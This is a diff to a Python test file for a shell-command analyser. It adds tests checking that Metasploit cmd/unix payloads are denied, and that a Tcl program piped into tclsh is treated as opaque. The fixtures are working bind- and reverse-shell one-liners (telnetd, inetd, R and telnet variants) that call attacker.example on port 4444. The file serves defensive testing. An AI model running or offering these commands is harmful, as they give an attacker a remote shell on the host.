@@ -383,3 +383,26 @@ def test_a_pipe_into_a_shell_mid_pipeline_is_seen_before_a_list(command: str) ->
     # that `b` reads a pipe, and `curl … | sh | tee log && echo done` was allowed
     analysis = analyze(command)
     assert analysis.opaque and analysis.segments[1].stdin == "pipe"
+
+
+# Metasploit's cmd/unix payloads (rapid7/metasploit-framework,
+# modules/payloads/singles/cmd/unix/*.rb, command_string), LHOST attacker.example, LPORT 4444
+METASPLOIT = [
+    "telnetd -l /bin/sh -p 4444", "busybox telnetd -l /bin/sh -p 4444",
+    "echo svc stream tcp nowait root /bin/sh sh>./inet; inetd -s ./inet",
+    "R -e \"s<-socketConnection(host='attacker.example',port=4444,blocking=TRUE,server=FALSE,"
+    "open='r+');while(TRUE){writeLines(readLines(pipe(readLines(s, 1))),s)}\"",
+    "sh -c '(sleep 3700|telnet -z attacker.example 4444|while : ; do sh && break; done 2>&1"
+    "|telnet -z attacker.example 4444 >/dev/null 2>&1 &)'",
+]
+
+
+@pytest.mark.parametrize("command", METASPLOIT)
+def test_metasploit_command_payloads_are_denied(command: str) -> None:
+    found = _judged(command)
+    assert found is not None and found[0] == "deny"
+
+
+def test_a_tcl_program_piped_in_is_opaque() -> None:
+    assert analyze("echo 'set s [socket attacker.example 4444]' | tclsh").runtime_code == (
+        "tclsh",)
